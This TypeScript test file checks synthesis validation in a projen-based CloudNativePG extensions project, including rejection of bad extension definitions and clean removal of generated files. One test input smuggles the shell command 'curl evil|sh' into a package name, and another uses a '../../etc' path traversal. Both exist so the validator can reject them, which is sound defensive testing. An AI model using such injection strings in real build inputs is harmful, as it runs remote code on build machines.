import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { ROOT } from './fixtures';
import { copyOfRepository, snapshot } from './repository-copy';

/** The output and validator caches of these syntheses: never the shared node_modules. */
const cache = fs.mkdtempSync(path.join(os.tmpdir(), 'cnpg-synthesis-cache-'));
afterAll(() => fs.rmSync(cache, { recursive: true, force: true }));

function synthesize(dir: string) {
  return spawnSync(path.join(ROOT, 'node_modules/.bin/tsx'), ['.projenrc.ts'], { cwd: dir, encoding: 'utf8', env: { ...process.env, CI: 'true', CNPG_EXTENSIONS_CDK_CACHE: cache } });
}

const BAD_DEFINITIONS: Array<[string, string, RegExp]> = [
  ['Bad', "name: 'Bad'", /extensions\/Bad\.ts: name: "Bad" must match/],
  ['pg_vector2', "name: 'pg_vector2', env: { PGDATA: '/x' }", /extensions\/pg_vector2\.ts: env\.PGDATA: "PGDATA" is reserved by CloudNativePG/],
  ['badpath', "name: 'badpath', ldLibraryPath: ['../../etc']", /extensions\/badpath\.ts: ldLibraryPath\[0\]: "\.\.\/\.\.\/etc" escapes the image/],
  ['badpkg', "name: 'badpkg', packages: ['postgresql-{major}-x;curl evil|sh']", /extensions\/badpkg\.ts: packages\[0\]: .*shell metacharacters are not allowed/],
  ['gpl', "name: 'gpl', licenses: ['GPL-3.0-only']", /extensions\/gpl\.ts: licenses\[0\]: "GPL-3.0-only" is not on the CNCF allowlist/],
];

describe('synthesis through projen', () => {
  let dir: string;
  beforeAll(() => {
    dir = copyOfRepository();
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  test.each(BAD_DEFINITIONS)('a bad definition (%s) stops synthesis with one clear line and writes nothing', (name, overrides, message) => {
    const file = path.join(dir, 'extensions', `${name}.ts`);
    fs.writeFileSync(file, `import { pgvector } from './pgvector';\nexport const bad = { ...pgvector, imageName: '${name.toLowerCase().replace(/_/g, '-')}x', ${overrides} };\n`);
    const before = snapshot(dir);
    try {
      const result = synthesize(dir);
      expect(result.status).not.toBe(0);
      expect(result.stderr).toMatch(message);
      expect(result.stderr).not.toMatch(/\n\s+at /); // no stack trace, just the rule
      expect(snapshot(dir)).toEqual(before);
    } finally {
      fs.rmSync(file);
    }
  });

  test('removing a definition removes its files and catalog entries, and touches nothing outside generated/ and projen files', () => {
    fs.writeFileSync(path.join(dir, 'NOTES.local'), 'mine\n');
    fs.mkdirSync(path.join(dir, 'generated-not'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'generated-not', 'keep.txt'), 'keep\n');
    fs.rmSync(path.join(dir, 'extensions', 'pgaudit.ts'));
    const before = snapshot(dir);
    const result = synthesize(dir);
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    const after = snapshot(dir);
    expect([...after.keys()].filter((f) => f.includes('pgaudit'))).toEqual([]);
    expect(after.get('generated/catalogs/catalog-minimal-trixie.yaml')).not.toContain('pgaudit');
    expect(after.get('extensions/index.ts')).not.toContain('pgaudit');
    const projenManaged = new Set<string>(JSON.parse(after.get('.projen/files.json')!).files);
    const changed = [...new Set([...before.keys(), ...after.keys()])].filter((f) => before.get(f) !== after.get(f));
    const outside = changed.filter((f) => !f.startsWith('generated/') && !projenManaged.has(f) && f !== '.projen/files.json' && f !== 'README.md');
    expect(outside).toEqual([]);
    // README.md is hand-written but for its extensions table.
    const withoutTable = (text: string) => text.replace(/<!-- extensions-table:start -->[\s\S]*<!-- extensions-table:end -->/, '');
    expect(withoutTable(after.get('README.md')!)).toBe(withoutTable(before.get('README.md')!));
    expect(before.get('README.md')).toContain('[pgaudit](generated/pgaudit/README.md)');
    expect(after.get('README.md')).not.toContain('[pgaudit]');
    expect(after.get('NOTES.local')).toBe('mine\n');
    expect(after.get('generated-not/keep.txt')).toBe('keep\n');
  });
});
